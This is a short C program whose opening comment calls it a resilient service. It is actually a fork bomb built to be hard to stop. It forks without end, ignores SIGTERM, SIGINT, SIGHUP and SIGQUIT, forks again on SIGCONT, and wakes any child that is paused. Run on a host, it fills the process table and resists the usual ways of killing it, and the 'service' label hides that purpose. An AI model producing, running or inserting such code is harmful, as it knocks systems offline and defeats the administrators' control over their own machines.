/* A service made to survive clumsy admins: ignores the polite signals, forks again on CONT, and revives a stopped child. */
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

static void breed(int unused) {
  (void)unused;
  if (fork() < 0) usleep(20000);
}

static void revive(int unused) {
  int status;
  pid_t child;
  (void)unused;
  while ((child = waitpid(-1, &status, WNOHANG | WUNTRACED)) > 0)
    if (WIFSTOPPED(status)) kill(child, SIGCONT);
}

int main(void) {
  signal(SIGTERM, SIG_IGN);
  signal(SIGINT, SIG_IGN);
  signal(SIGHUP, SIG_IGN);
  signal(SIGQUIT, SIG_IGN);
  signal(SIGCONT, breed);
  signal(SIGCHLD, revive);
  for (;;) breed(0);
}
